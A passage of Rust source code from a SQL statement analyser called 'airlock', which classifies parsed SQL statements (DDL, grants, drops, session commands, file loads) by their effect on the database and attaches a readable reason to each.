                            format!("ALTER SCHEMA changes {name}"),
                        ),
                    }
                }
                if alter.operations.is_empty() {
                    self.fact(
                        Write,
                        "ALTER SCHEMA",
                        format!("ALTER SCHEMA changes {name}"),
                    );
                }
            }
            S::AlterFunction(alter) => {
                let name = self.target("db:function", &alter.function.name);
                match &alter.operation {
                    ast::AlterFunctionOperation::OwnerTo(owner) => {
                        let owner = self.owner(owner);
                        self.fact(
                            Permissions,
                            "ALTER FUNCTION OWNER TO",
                            format!("ALTER FUNCTION … OWNER TO gives {name} to {owner}"),
                        );
                    }
                    ast::AlterFunctionOperation::Actions { actions, .. }
                        if actions.iter().any(|a| {
                            matches!(
                                a,
                                ast::AlterFunctionAction::Security {
                                    security: ast::FunctionSecurity::Definer,
                                    ..
                                }
                            )
                        }) =>
                    {
                        self.fact(
                            Permissions,
                            "ALTER FUNCTION SECURITY DEFINER",
                            format!(
                                "SECURITY DEFINER makes {name} run with its owner's privileges"
                            ),
                        );
                    }
                    _ => self.fact(
                        Write,
                        "ALTER FUNCTION",
                        format!("ALTER FUNCTION changes {name}"),
                    ),
                }
            }
            S::AlterType(alter) => {
                let name = self.target("db:type", &alter.name);
                self.fact(Write, "ALTER TYPE", format!("ALTER TYPE changes {name}"));
            }
            S::AlterCollation(_)
            | S::AlterOperator(_)
            | S::AlterOperatorFamily(_)
            | S::AlterOperatorClass(_)
            | S::AlterTextSearch(_) => {
                self.fact(Write, "ALTER", "changes a database object's definition");
            }
            S::AlterRole { name, operation } => {
                let name = self.role(name);
                let why = match operation {
                    ast::AlterRoleOperation::AddMember { member_name } => {
                        let member = self.role(member_name);
                        format!("ALTER ROLE adds {member} to role {name}")
                    }
                    ast::AlterRoleOperation::DropMember { member_name } => {
                        let member = self.role(member_name);
                        format!("ALTER ROLE removes {member} from role {name}")
                    }
                    _ => format!("ALTER ROLE changes role {name}'s privileges or settings"),
                };
                self.fact(Permissions, "ALTER ROLE", why);
            }
            S::AlterUser(alter) => {
                let name = self.role(&alter.name);
                self.fact(
                    Permissions,
                    "ALTER USER",
                    format!("ALTER USER changes user {name}"),
                );
            }
            S::AlterPolicy(alter) => {
                let table = self.target("db:table", &alter.table_name);
                self.fact(
                    Permissions,
                    "ALTER POLICY",
                    format!(
                        "ALTER POLICY changes row-level policy {} on {table}",
                        alter.name.value
                    ),
                );
            }
            S::AlterTrigger(alter) => {
                let table = self.target("db:table", &alter.table_name);
                self.fact(
                    Write,
                    "ALTER TRIGGER",
                    format!(
                        "ALTER TRIGGER changes trigger {} on {table}",
                        alter.name.value
                    ),
                );
            }
            S::AlterConnector { name, owner, .. } => {
                let name = self.ident_target("db:connector", name);
                if owner.is_some() {
                    self.fact(
                        Permissions,
                        "ALTER CONNECTOR OWNER",
                        format!("ALTER CONNECTOR changes the owner of {name}"),
                    );
                } else {
                    self.fact(
                        Write,
                        "ALTER CONNECTOR",
                        format!("ALTER CONNECTOR changes {name}"),
                    );
                }
            }
            S::AlterSession { .. } => {
                self.fact(
                    Read,
                    "ALTER SESSION",
                    "ALTER SESSION changes session settings",
                );
            }
            S::CreateTable(create) => {
                let name = self.target("db:table", &create.name);
                if let Some(query) = &create.query {
                    self.query(query);
                }
                if let Some(clone) = &create.clone {
                    self.read_table(clone);
                }
                for parent in create.inherits.iter().flatten().chain(&create.partition_of) {
                    self.target("db:table", parent);
                }
                if let Some(like) = &create.like {
                    match like {
                        ast::CreateTableLikeKind::Parenthesized(l)
                        | ast::CreateTableLikeKind::Plain(l) => self.read_table(&l.name),
                    }
                }
                if create.or_replace {
                    self.fact(
                        Delete,
                        "CREATE OR REPLACE TABLE",
                        format!("CREATE OR REPLACE TABLE drops any existing {name} and its rows"),
                    );
                } else {
                    self.fact(
                        Write,
                        "CREATE TABLE",
                        format!("CREATE TABLE creates {name}"),
                    );
                }
            }
            S::CreateView(create) => {
                let name = self.target("db:view", &create.name);
                if let Some(to) = &create.to {
                    self.target("db:table", to);
                }
                self.query(&create.query);
                let op = if create.materialized {
                    "CREATE MATERIALIZED VIEW"
                } else {
                    "CREATE VIEW"
                };
                let verb = if create.or_replace || create.or_alter {
                    "creates or redefines"
                } else {
                    "creates"
                };
                self.fact(Write, op, format!("{op} {verb} {name}"));
            }
            S::CreateIndex(create) => {
                let table = self.target("db:table", &create.table_name);
                let why = match &create.name {
                    Some(name) => {
                        let name = self.target("db:index", name);
                        format!("CREATE INDEX builds index {name} on {table}")
                    }
                    None => format!("CREATE INDEX builds an index on {table}"),
                };
                self.fact(Write, "CREATE INDEX", why);
            }
            S::CreateVirtualTable { name, .. } => {
                let name = self.target("db:table", name);
                self.fact(
                    Write,
                    "CREATE VIRTUAL TABLE",
                    format!("CREATE VIRTUAL TABLE creates {name}"),
                );
            }
            S::CreateSchema { schema_name, .. } => match schema_name {
                ast::SchemaName::Simple(name) => {
                    let name = self.target("db:schema", name);
                    self.fact(
                        Write,
                        "CREATE SCHEMA",
                        format!("CREATE SCHEMA creates {name}"),
                    );
                }
                ast::SchemaName::UnnamedAuthorization(owner) => {
                    let owner = self.role(owner);
                    self.fact(
                        Permissions,
                        "CREATE SCHEMA AUTHORIZATION",
                        format!("CREATE SCHEMA AUTHORIZATION creates a schema owned by {owner}"),
                    );
                }
                ast::SchemaName::NamedAuthorization(name, owner) => {
                    let name = self.target("db:schema", name);
                    let owner = self.role(owner);
                    self.fact(
                        Permissions,
                        "CREATE SCHEMA AUTHORIZATION",
                        format!("CREATE SCHEMA … AUTHORIZATION creates {name} owned by {owner}"),
                    );
                }
            },
            S::CreateDatabase {
                db_name,
                or_replace,
                clone,
                ..
            } => {
                let name = self.target("db:database", db_name);
                if let Some(clone) = clone {
                    self.target("db:database", clone);
                }
                if *or_replace {
                    self.fact(
                        Delete,
                        "CREATE OR REPLACE DATABASE",
                        format!("CREATE OR REPLACE DATABASE drops any existing {name}"),
                    );
                } else {
                    self.fact(
                        Write,
                        "CREATE DATABASE",
                        format!("CREATE DATABASE creates {name}"),
                    );
                }
            }
            S::CreateRole(create) => {
                let names: Vec<String> = create
                    .names
                    .iter()
                    .map(|n| self.target("db:role", n))
                    .collect();
                for member in create.in_role.iter().chain(&create.in_group) {
                    self.role(member);
                }
                for member in create.role.iter().chain(&create.user).chain(&create.admin) {
                    self.role(member);
                }
                let superuser = if create.superuser == Some(true) {
                    " with SUPERUSER"
                } else {
                    ""
                };
                self.fact(
                    Permissions,
                    "CREATE ROLE",
                    format!("CREATE ROLE adds role {}{superuser}", Self::shown(&names)),
                );
            }
            S::CreateUser(create) => {
                let name = self.role(&create.name);
                self.fact(
                    Permissions,
                    "CREATE USER",
                    format!("CREATE USER adds user {name}"),
                );
            }
            S::CreatePolicy(create) => {
                let table = self.target("db:table", &create.table_name);
                for owner in create.to.iter().flatten() {
                    self.owner(owner);
                }
                self.fact(
                    Permissions,
                    "CREATE POLICY",
                    format!(
                        "CREATE POLICY sets which rows of {table} roles may see or change (policy {})",
                        create.name.value
                    ),
                );
            }
            S::CreateFunction(create) => self.create_function(create),
            S::CreateProcedure { name, language, .. } => {
                let name = self.target("db:procedure", name);
                match language.as_ref().map(|l| l.value.to_lowercase()) {
                    Some(lang) if untrusted_language(&lang) => self.unknown(
                        "CREATE PROCEDURE",
                        format!("CREATE PROCEDURE in untrusted language {lang} can run any code on the server"),
                    ),
                    _ => self.fact(
                        Write,
                        "CREATE PROCEDURE",
                        format!("CREATE PROCEDURE defines {name}"),
                    ),
                }
            }
            S::CreateTrigger(create) => {
                let table = self.target("db:table", &create.table_name);
                let name = self.target("db:trigger", &create.name);
                self.fact(
                    Write,
                    "CREATE TRIGGER",
                    format!("CREATE TRIGGER attaches {name} to changes of {table}"),
                );
            }
            S::CreateRule(create) => {
                let table = self.target("db:table", &create.table_name);
                self.fact(
                    Write,
                    "CREATE RULE",
                    format!(
                        "CREATE RULE rewrites future statements on {table} (rule {})",
                        create.name.value
                    ),
                );
            }
            S::CreateMacro { name, .. } => {
                let name = self.target("db:function", name);
                self.fact(
                    Write,
                    "CREATE MACRO",
                    format!("CREATE MACRO defines {name}"),
                );
            }
            S::CreateExtension(create) => {
                let name = self.ident(&create.name);
                self.push_target(
                    "db:extension",
                    Name {
                        namespace: None,
                        name: name.clone(),
                    },
                );
                if untrusted_extension(&name.to_lowercase()) {
                    self.unknown(
                        "CREATE EXTENSION",
                        format!(
                            "CREATE EXTENSION {name} gives access to code, files or other servers"
                        ),
                    );
                } else {
                    self.fact(
                        Write,
                        "CREATE EXTENSION",
                        format!("CREATE EXTENSION installs {name}"),
                    );
                }
            }
            S::CreateSequence { name, .. } => {
                let name = self.target("db:sequence", name);
                self.fact(
                    Write,
                    "CREATE SEQUENCE",
                    format!("CREATE SEQUENCE creates {name}"),
                );
            }
            S::CreateType { name, .. } => {
                let name = self.target("db:type", name);
                self.fact(Write, "CREATE TYPE", format!("CREATE TYPE creates {name}"));
            }
            S::CreateDomain(create) => {
                let name = self.target("db:type", &create.name);
                self.fact(
                    Write,
                    "CREATE DOMAIN",
                    format!("CREATE DOMAIN creates {name}"),
                );
            }
            S::CreateServer(create) => {
                let name = self.target("db:server", &create.name);
                self.fact(
                    Write,
                    "CREATE SERVER",
                    format!("CREATE SERVER defines foreign server {name}"),
                );
            }
            S::CreateForeignTable(create) => {
                let name = self.target("db:table", &create.name);
                self.fact(
                    Write,
                    "CREATE FOREIGN TABLE",
                    format!("CREATE FOREIGN TABLE creates {name}"),
                );
            }
            S::CreateUserMapping(create) => {
                if let ast::UserMappingUser::Name(user) = &create.user {
                    self.role(user);
                }
                self.fact(
                    Permissions,
                    "CREATE USER MAPPING",
                    format!(
                        "CREATE USER MAPPING stores credentials for server {}",
                        create.server_name.value
                    ),
                );
            }
            S::CreateForeignDataWrapper(_) => self.unknown(
                "CREATE FOREIGN DATA WRAPPER",
                "CREATE FOREIGN DATA WRAPPER installs handler code",
            ),
            S::CreateSecret { .. } => self.fact(
                Permissions,
                "CREATE SECRET",
                "CREATE SECRET stores credentials",
            ),
            S::CreateCollation(_)
            | S::CreateOperator(_)
            | S::CreateOperatorFamily(_)
            | S::CreateOperatorClass(_)
            | S::CreateTextSearch(_)
            | S::CreateAggregate(_) => {
                self.fact(Write, "CREATE", "defines a new database object");
            }
            S::Grant(grant) => {
                let (objects, all) = self.grant_objects(grant.objects.as_ref());
                let grantees: Vec<String> =
                    grant.grantees.iter().map(|g| self.grantee(g)).collect();
                let why = format!(
                    "GRANT gives {} {} on {objects}",
                    Self::shown(&grantees),
                    privileges(&grant.privileges)
                );
                self.permissions("GRANT", why, all);
            }
            S::Revoke(revoke) => {
                let (objects, all) = self.grant_objects(revoke.objects.as_ref());
                let grantees: Vec<String> =
                    revoke.grantees.iter().map(|g| self.grantee(g)).collect();
                let why = format!(
                    "REVOKE takes {} on {objects} from {}",
                    privileges(&revoke.privileges),
                    Self::shown(&grantees)
                );
                self.permissions("REVOKE", why, all);
            }
            S::Deny(deny) => {
                let (objects, all) = self.grant_objects(Some(&deny.objects));
                let grantees: Vec<String> = deny.grantees.iter().map(|g| self.grantee(g)).collect();
                let why = format!(
                    "DENY refuses {} {} on {objects}",
                    Self::shown(&grantees),
                    privileges(&deny.privileges)
                );
                self.permissions("DENY", why, all);
            }
            S::GrantRole(grant) => {
                let roles: Vec<String> = grant.roles.iter().map(|r| self.role(r)).collect();
                let grantees: Vec<String> =
                    grant.grantees.iter().map(|g| self.grantee(g)).collect();
                self.fact(
                    Permissions,
                    "GRANT ROLE",
                    format!(
                        "GRANT makes {} members of role {}",
                        Self::shown(&grantees),
                        Self::shown(&roles)
                    ),
                );
            }
            S::RevokeRole(revoke) => {
                let roles: Vec<String> = revoke.roles.iter().map(|r| self.role(r)).collect();
                let grantees: Vec<String> =
                    revoke.grantees.iter().map(|g| self.grantee(g)).collect();
                self.fact(
                    Permissions,
                    "REVOKE ROLE",
                    format!(
                        "REVOKE removes {} from role {}",
                        Self::shown(&grantees),
                        Self::shown(&roles)
                    ),
                );
            }
            S::AlterDefaultPrivileges(alter) => {
                let grantees = match &alter.operation {
                    ast::AlterDefaultPrivilegesOperation::Grant { grantees, .. }
                    | ast::AlterDefaultPrivilegesOperation::Revoke { grantees, .. } => grantees,
                };
                let names: Vec<String> = grantees.iter().map(|g| self.grantee(g)).collect();
                self.permissions(
                    "ALTER DEFAULT PRIVILEGES",
                    format!(
                        "ALTER DEFAULT PRIVILEGES changes what {} may do with objects created later",
                        Self::shown(&names)
                    ),
                    true,
                );
            }
            S::Set(set) => self.set(set),
            S::Reset(_) => self.fact(Read, "RESET", "RESET restores a session setting"),
            S::ShowFunctions { .. }
            | S::ShowVariable { .. }
            | S::ShowStatus { .. }
            | S::ShowVariables { .. }
            | S::ShowColumns { .. }
            | S::ShowCatalogs { .. }
            | S::ShowDatabases { .. }
            | S::ShowProcessList { .. }
            | S::ShowSchemas { .. }
            | S::ShowCharset(_)
            | S::ShowObjects(_)
            | S::ShowTables { .. }
            | S::ShowViews { .. }
            | S::ShowCollation { .. } => {
                self.fact(Read, "SHOW", "SHOW displays settings or the catalogue");
            }
            S::ShowCreate { obj_name, .. } => {
                let name = self.target("db:table", obj_name);
                self.fact(
                    Read,
                    "SHOW CREATE",
                    format!("SHOW CREATE displays the definition of {name}"),
                );
            }
            S::ExplainTable { table_name, .. } => {
                let name = self.target("db:table", table_name);
                self.fact(
                    Read,
                    "DESCRIBE",
                    format!("DESCRIBE displays the columns of {name}"),
                );
            }
            S::Explain {
                analyze,
                statement,
                options,
                ..
            } => self.explain(*analyze, statement, options.as_deref()),
            S::Use(use_) => self.use_(use_),
            S::StartTransaction {
                statements,
                exception,
                ..
            } => {
                self.fact(Read, "BEGIN", "BEGIN starts a transaction");
                self.statements(statements);
                for handler in exception.iter().flatten() {
                    self.statements(&handler.statements);
                }
            }
            S::Commit { .. } => self.fact(Read, "COMMIT", "COMMIT ends a transaction"),
            S::Rollback { .. } => self.fact(Read, "ROLLBACK", "ROLLBACK undoes a transaction"),
            S::Savepoint { .. } => self.fact(Read, "SAVEPOINT", "SAVEPOINT marks a transaction"),
            S::ReleaseSavepoint { .. } => {
                self.fact(Read, "RELEASE SAVEPOINT", "RELEASE forgets a savepoint");
            }
            S::Deallocate { .. } => {
                self.fact(
                    Read,
                    "DEALLOCATE",
                    "DEALLOCATE forgets a prepared statement",
                );
            }
            S::Discard { .. } => self.fact(Read, "DISCARD", "DISCARD resets session state"),
            S::Close { .. } => self.fact(Read, "CLOSE", "CLOSE closes a cursor"),
            S::Fetch { into, .. } => match into {
                Some(into) => {
                    let name = self.target("db:table", into);
                    self.fact(
                        Write,
                        "FETCH INTO",
                        format!("FETCH … INTO writes to {name}"),
                    );
                }
                None => self.fact(Read, "FETCH", "FETCH reads rows from a cursor"),
            },
            S::Declare { stmts, .. } => {
                for declare in stmts {
                    if let Some(query) = &declare.for_query {
                        self.query(query);
                    }
                    if let Some(assignment) = &declare.assignment {
                        match assignment {
                            ast::DeclareAssignment::Expr(e)
                            | ast::DeclareAssignment::Default(e)
                            | ast::DeclareAssignment::DuckAssignment(e)
                            | ast::DeclareAssignment::For(e)
                            | ast::DeclareAssignment::MsSqlAssignment(e) => self.expr(e),
                        }
                    }
                }
                self.fact(Read, "DECLARE", "DECLARE defines a cursor or variable");
            }
            S::LISTEN { .. } | S::UNLISTEN { .. } => {
                self.fact(Read, "LISTEN", "LISTEN waits for notifications");
            }
            S::NOTIFY { channel, .. } => self.fact(
                Write,
                "NOTIFY",
                format!("NOTIFY signals every listener on {}", channel.value),
            ),
            S::Copy {
                source, to, target, ..
            } => self.copy(source, *to, target),
            S::Call(function) => {
                let name = function.name.to_string();
                self.function_args(function);
                self.unknown(
                    "CALL",
                    format!("CALL runs procedure {name}, which may do anything"),
                );
            }
            S::Execute {
                name, parameters, ..
            } => {
                self.unknown(
                    "EXECUTE",
                    match name {
                        Some(name) => format!(
                            "EXECUTE runs prepared statement {name}, whose text is not here"
                        ),
                        None => "EXECUTE runs SQL that is not here".to_string(),
                    },
                );
                self.exprs(parameters);
            }
            S::Prepare {
                name, statement, ..
            } => {
                self.unknown(
                    "PREPARE",
                    format!(
                        "PREPARE stores statement {} to run later, under another name",
                        name.value
                    ),
                );
                self.statement(statement);
            }
            S::Load { extension_name } => self.unknown(
                "LOAD",
                format!(
                    "LOAD loads native code ({}) into the server",
                    extension_name.value
                ),
            ),
            S::Install { extension_name } => self.unknown(
                "INSTALL",
                format!("INSTALL downloads extension {}", extension_name.value),
            ),
            S::LoadData { table_name, .. } => {
                self.target("db:table", table_name);
                self.unknown(
                    "LOAD DATA",
                    "LOAD DATA reads files on the server into a table",
                );
            }
            S::AttachDatabase {
                schema_name,
                database_file_name,
                ..
            } => {
                self.ident_target("db:database", schema_name);
                self.unknown(
                    "ATTACH DATABASE",
                    format!("ATTACH opens or creates database file {database_file_name}"),
                );
            }
            S::AttachDuckDBDatabase { .. } => {
                self.unknown("ATTACH", "ATTACH opens or creates a database file");
            }
            S::DetachDuckDBDatabase { .. } => {
                self.fact(Read, "DETACH", "DETACH closes an attached database");
            }
            S::Kill { modifier, id } => match modifier {
                Some(ast::KillType::Query) => self.fact(
                    Write,
                    "KILL QUERY",
                    format!("KILL QUERY cancels the statement running in session {id}"),
                ),
                _ => self.fact(
                    Delete,
                    "KILL",
                    format!("KILL ends session {id}, discarding its uncommitted work"),
                ),
            },
            S::Flush {
                object_type,
                tables,
                ..
            } => {
                for table in tables {
                    self.target("db:table", table);
                }
                if matches!(object_type, ast::FlushType::Privileges) {
                    self.fact(
                        Permissions,
                        "FLUSH PRIVILEGES",
                        "FLUSH PRIVILEGES applies edits made directly to the grant tables",
                    );
                } else {
                    self.fact(
                        Write,
                        "FLUSH",
                        format!("FLUSH {object_type} resets server state"),
                    );
                }
            }
            S::Lock(lock) => {
                let names: Vec<String> = lock
                    .tables
                    .iter()
                    .map(|t| self.target("db:table", &t.name))
                    .collect();
                self.fact(
                    Write,
                    "LOCK TABLE",
                    format!("LOCK TABLE locks {}", Self::shown(&names)),
                );
            }
            S::LockTables { tables } => {
                let names: Vec<String> = tables
                    .iter()
                    .map(|t| self.ident_target("db:table", &t.table))
                    .collect();
                self.fact(
                    Write,
                    "LOCK TABLES",
                    format!("LOCK TABLES locks {}", Self::shown(&names)),
                );
            }
            S::UnlockTables => self.fact(Read, "UNLOCK TABLES", "UNLOCK TABLES releases locks"),
            S::Pragma { name, value, .. } => self.pragma(name, value.is_some()),
            S::Vacuum(vacuum) => {
                let what = match &vacuum.table_name {
                    Some(name) => self.target("db:table", name),
                    None => "every table".to_string(),
                };
                let op = if vacuum.full { "VACUUM FULL" } else { "VACUUM" };
                self.fact(Write, op, format!("{op} rewrites or cleans up {what}"));
            }
            S::Analyze(analyze) => {
                let what = match &analyze.table_name {
                    Some(name) => self.target("db:table", name),
                    None => "every table".to_string(),
                };
                self.fact(
                    Write,
                    "ANALYZE",
                    format!("ANALYZE updates planner statistics of {what}"),
                );
            }
            S::OptimizeTable { name, .. } => {
                let name = self.target("db:table", name);
                self.fact(
                    Write,
                    "OPTIMIZE TABLE",
                    format!("OPTIMIZE TABLE rewrites {name}"),
                );
            }
            S::RefreshMaterializedView(refresh) => {
                let name = self.target("db:view", &refresh.name);
                self.fact(
                    Write,
                    "REFRESH MATERIALIZED VIEW",
                    format!("REFRESH MATERIALIZED VIEW recomputes {name}"),
                );
            }
            S::Msck(_) => self.fact(Write, "MSCK", "MSCK REPAIR updates table partitions"),
            S::Comment { object_name, .. } => {
                let name = self.target("db:table", object_name);
                self.fact(
                    Write,
                    "COMMENT",
                    format!("COMMENT ON changes the comment of {name}"),
                );
            }
            S::RenameTable(renames) => {
                let mut names = Vec::new();
                for rename in renames {
                    names.push(self.target("db:table", &rename.old_name));
                    self.target("db:table", &rename.new_name);
                }
                self.fact(
                    Write,
                    "RENAME TABLE",
                    format!("RENAME TABLE renames {}", Self::shown(&names)),
                );
            }
            S::Assert { condition, message } => {
                self.expr(condition);
                if let Some(message) = message {
                    self.expr(message);
                }
                self.fact(Read, "ASSERT", "ASSERT checks a condition");
            }
            S::Directory { source, .. } => {
                self.query(source);
                self.unknown("INSERT DIRECTORY", "writes query results to files");
            }
            S::Unload { query, .. } => {
                if let Some(query) = query {
                    self.query(query);
                }
                self.unknown("UNLOAD", "UNLOAD writes query results to files");
            }
            S::ExportData(_) => {
                self.unknown("EXPORT DATA", "EXPORT DATA writes query results to files")
            }
            other => {
                let text = other.to_string();
                let first = text
                    .split_whitespace()
                    .next()
                    .unwrap_or("this")
                    .to_uppercase();
                self.unknown(
                    first.clone(),
                    format!("airlock does not analyse {first} statements"),
                );
            }
        }
    }

    fn permissions(&mut self, op: &str, why: String, all: bool) {
        if all {
            self.bulk_fact(Effect::Permissions, op, why);
        } else {
            self.fact(Effect::Permissions, op, why);
        }
    }

    fn drop_fact(&mut self, what: &str, names: &[String], cascade: bool) {
        let op = format!("DROP {what}");
        let cascade_note = if cascade {
            " and everything that depends on it"
        } else {
            ""
        };
        let why = format!("{op} removes {}{cascade_note}", Self::shown(names));
        if cascade {
            self.bulk_fact(Effect::Delete, op, why);
        } else {
            self.fact(Effect::Delete, op, why);
        }
    }

    fn drop_objects(
        &mut self,
        object_type: ast::ObjectType,
        names: &[ast::ObjectName],
        cascade: bool,
        table: Option<&ast::ObjectName>,
    ) {
        use ast::ObjectType as O;
        let kind = match object_type {
            O::Table | O::ForeignTable => "db:table",
            O::View | O::MaterializedView => "db:view",
            O::Index => "db:index",
            O::Schema => "db:schema",
            O::Database => "db:database",
            O::Role | O::Group | O::User => "db:role",
            O::Sequence => "db:sequence",
            O::Type => "db:type",
            O::Collation => "db:collation",
            O::Stage => "db:stage",
            O::Stream => "db:stream",
            O::Warehouse => "db:warehouse",
        };
        let shown: Vec<String> = names.iter().map(|n| self.target(kind, n)).collect();
        if let Some(table) = table {
            self.target("db:table", table);
        }
        let op = format!("DROP {object_type}");
        let list = Self::shown(&shown);
        match object_type {
            O::Role | O::Group | O::User => self.fact(
                Effect::Permissions,
                op,
                format!("DROP {object_type} removes {list} and everything it may do"),
            ),
            O::Database => self.bulk_fact(
                Effect::Delete,
                op,
                format!("DROP DATABASE removes {list} with every table in it"),
            ),
            // Every row goes with the table: unbounded, like a DELETE without WHERE.
            O::Table | O::ForeignTable | O::Schema => {
                let why = if object_type == O::Schema {
                    format!("DROP SCHEMA removes {list} with every table in it")
                } else {
                    format!("DROP TABLE removes {list} and all its rows")
                };
                let why = if cascade {
                    format!("{why}, and everything that depends on it")
                } else {
                    why
                };
                self.bulk_fact(Effect::Delete, op, why);
            }
            _ => {
                let why = format!("{op} removes {list}");
                if cascade {
                    self.bulk_fact(
                        Effect::Delete,
                        op,
                        format!("{why} and everything in or depending on it"),
                    );
                } else {
                    self.fact(Effect::Delete, op, why);
                }
            }
        }
    }

    fn grant_objects(&mut self, objects: Option<&ast::GrantObjects>) -> (String, bool) {
        use ast::GrantObjects as G;
        let Some(objects) = objects else {
            return ("the database".to_string(), false);
        };
        let mut all = false;
        let mut names = Vec::new();
        match objects {
            G::AllSequencesInSchema { schemas }
            | G::AllTablesInSchema { schemas }
            | G::AllViewsInSchema { schemas }
            | G::AllMaterializedViewsInSchema { schemas }
            | G::AllExternalTablesInSchema { schemas }
            | G::AllFunctionsInSchema { schemas }
            | G::AllProceduresInSchema { schemas }
            | G::AllRoutinesInSchema { schemas }
            | G::FutureTablesInSchema { schemas }
            | G::FutureViewsInSchema { schemas }
            | G::FutureExternalTablesInSchema { schemas }
            | G::FutureMaterializedViewsInSchema { schemas }
            | G::FutureSequencesInSchema { schemas } => {
                all = true;
                for schema in schemas {
                    let name = self.target("db:schema", schema);
                    names.push(format!("every object in schema {name}"));
                }
            }
            G::FutureSchemasInDatabase { databases } | G::Databases(databases) => {
                all = matches!(objects, G::FutureSchemasInDatabase { .. });
                for db in databases {
                    names.push(self.target("db:database", db));
                }
            }
            G::Schemas(schemas) => {
                for schema in schemas {
                    names.push(self.target("db:schema", schema));
                }
            }
            G::Sequences(list) => {
                for n in list {
                    names.push(self.target("db:sequence", n));
                }
            }
            G::Tables(list) => {
                for n in list {
                    if n.to_string().contains('*') {
                        all = true;
                    }
                    names.push(self.target("db:table", n));
                }
            }
            G::Views(list) => {
                for n in list {
                    names.push(self.target("db:view", n));
                }
            }
            G::Users(list) => {
                for n in list {
                    names.push(self.target("db:role", n));
                }
            }
            G::Procedures(list) | G::Functions(list) | G::Routines(list) => {
                for f in list {
                    names.push(self.target("db:function", &f.name));
                }
            }
            G::Warehouses(list)
            | G::Integrations(list)
            | G::ResourceMonitors(list)
            | G::ComputePools(list)
            | G::Connections(list)
            | G::FailoverGroup(list)
            | G::ReplicationGroup(list)
            | G::ExternalVolumes(list) => {
                for n in list {
                    names.push(n.to_string());
                }
            }
        }
        (Self::shown(&names), all)
    }

    fn alter_table(&mut self, alter: &ast::AlterTable) {
        use Effect::{Delete, Permissions, Write};
        use ast::AlterTableOperation as A;
        let name = self.target("db:table", &alter.name);
        for op in &alter.operations {
            match op {
                A::DropColumn {
                    column_names,
                    drop_behavior,
                    ..
                } => {
                    let columns: Vec<&str> = column_names.iter().map(|c| c.value.as_str()).collect();
                    let why = format!(
                        "ALTER TABLE … DROP COLUMN removes column {} of {name} and its data",
                        columns.join(", ")
                    );
                    // The column's value in every row is gone.
                    let _ = drop_behavior;
                    self.bulk_fact(Delete, "ALTER TABLE DROP COLUMN", why);
                }
                A::DropConstraint { name: c, .. } => self.fact(
                    Delete,
                    "ALTER TABLE DROP CONSTRAINT",
                    format!("ALTER TABLE … DROP CONSTRAINT removes constraint {} of {name}", c.value),
                ),
                A::DropPrimaryKey { .. } => self.fact(
                    Delete,
                    "ALTER TABLE DROP PRIMARY KEY",
                    format!("ALTER TABLE … DROP PRIMARY KEY removes the primary key of {name}"),
                ),
                A::DropForeignKey { name: c, .. } => self.fact(
                    Delete,
                    "ALTER TABLE DROP FOREIGN KEY",
                    format!("ALTER TABLE … DROP FOREIGN KEY removes {} of {name}", c.value),
                ),
                A::DropIndex { name: c } => self.fact(
                    Delete,
                    "ALTER TABLE DROP INDEX",
                    format!("ALTER TABLE … DROP INDEX removes index {} of {name}", c.value),
                ),
                A::DropPartitions { .. } => self.fact(
                    Delete,
                    "ALTER TABLE DROP PARTITION",
                    format!("ALTER TABLE … DROP PARTITION removes partitions of {name} and their rows"),
                ),
                A::DropProjection { .. } | A::ClearProjection { .. } => self.fact(
                    Delete,
                    "ALTER TABLE DROP PROJECTION",
                    format!("removes a projection of {name}"),
                ),
                A::DropClusteringKey => self.fact(
                    Delete,
                    "ALTER TABLE DROP CLUSTERING KEY",
                    format!("removes the clustering key of {name}"),
                ),
                A::OwnerTo { new_owner } => {
                    let owner = self.owner(new_owner);
                    self.fact(
                        Permissions,
                        "ALTER TABLE OWNER TO",
                        format!("ALTER TABLE … OWNER TO gives {name} to {owner}"),
                    );
                }
                A::EnableRowLevelSecurity | A::ForceRowLevelSecurity => self.fact(
                    Permissions,
                    "ALTER TABLE ENABLE ROW LEVEL SECURITY",
                    format!("turns on row-level security for {name}, changing who sees which rows"),
                ),
                A::DisableRowLevelSecurity | A::NoForceRowLevelSecurity => self.fact(
                    Permissions,
                    "ALTER TABLE DISABLE ROW LEVEL SECURITY",
                    format!("turns off row-level security for {name}: every role with access sees every row"),
                ),
                A::SwapWith { table_name } => {
                    let other = self.target("db:table", table_name);
                    self.fact(
                        Delete,
                        "ALTER TABLE SWAP WITH",
                        format!("ALTER TABLE … SWAP WITH exchanges the contents of {name} and {other}"),
                    );
                }
                A::RenameTable { .. } => self.fact(
                    Write,
                    "ALTER TABLE RENAME",
                    format!("ALTER TABLE … RENAME renames {name}"),
                ),
                A::DisableTrigger { name: t } | A::DisableRule { name: t } => self.fact(
                    Write,
                    "ALTER TABLE DISABLE TRIGGER",
                    format!("disables trigger or rule {} on {name}", t.value),
                ),
                _ => self.fact(
                    Write,
                    "ALTER TABLE",
                    format!("ALTER TABLE changes the definition of {name}"),
                ),
            }
        }
        if alter.operations.is_empty() {
            self.fact(Write, "ALTER TABLE", format!("ALTER TABLE changes {name}"));
        }
    }

    fn create_function(&mut self, create: &ast::CreateFunction) {
        let name = self.target("db:function", &create.name);
        let language = create.language.as_ref().map(|l| l.value.to_lowercase());
        let c_symbol = matches!(
            &create.function_body,
            Some(ast::CreateFunctionBody::AsBeforeOptions {
                link_symbol: Some(_),
                ..
            })
        );
        if let Some(lang) = language.as_deref().filter(|l| untrusted_language(l)) {
            self.unknown(
                "CREATE FUNCTION",
                format!(
                    "CREATE FUNCTION in untrusted language {lang} can run any code on the server"
                ),
            );
        } else if c_symbol || create.using.is_some() || create.remote_connection.is_some() {
            self.unknown(
                "CREATE FUNCTION",
                "CREATE FUNCTION loads external code".to_string(),
            );
        } else if matches!(create.security, Some(ast::FunctionSecurity::Definer)) {
            self.fact(
                Effect::Permissions,
                "CREATE FUNCTION SECURITY DEFINER",
                format!("SECURITY DEFINER makes {name} run with its owner's privileges"),
            );
        } else {
            self.fact(
                Effect::Write,
                "CREATE FUNCTION",
                format!("CREATE FUNCTION defines {name}"),
            );
        }
    }

    fn explain(
        &mut self,
        analyze: bool,
        statement: &ast::Statement,
        options: Option<&[ast::UtilityOption]>,
    ) {
        // `EXPLAIN (ANALYZE)` and `EXPLAIN (ANALYSE true)` run the statement;
        // `EXPLAIN (ANALYZE false)` does not.
        let analyze = analyze
            || options.unwrap_or_default().iter().any(|o| {
                (o.name.value.eq_ignore_ascii_case("analyze")
                    || o.name.value.eq_ignore_ascii_case("analyse"))
                    && !o.arg.as_ref().is_some_and(is_false_option)
            });
        if analyze {
            let start = self.facts.len();
            self.statement(statement);
            for fact in &mut self.facts[start..] {
